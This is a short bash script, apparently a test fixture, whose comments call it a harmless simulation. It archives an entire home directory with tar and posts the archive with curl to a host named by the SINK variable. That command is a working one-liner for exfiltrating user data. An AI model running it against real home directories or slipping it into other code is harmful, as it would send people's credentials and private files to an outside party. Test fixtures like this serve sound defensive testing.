#!/usr/bin/env bash
# All of a home, packed and sent away: what a backup does to the wrong place. Harmless: the home is a scratch directory of
# made-up secrets, the sink is the test's own.
set -euo pipefail
: "${HOME:?}" "${TMPDIR:?}" "${SINK:?}"
bash -c 'tar -C "$HOME" -czf "$TMPDIR/home.tgz" . && curl -s -o /dev/null --max-time 10 --data-binary "@$TMPDIR/home.tgz" "http://$SINK/"'
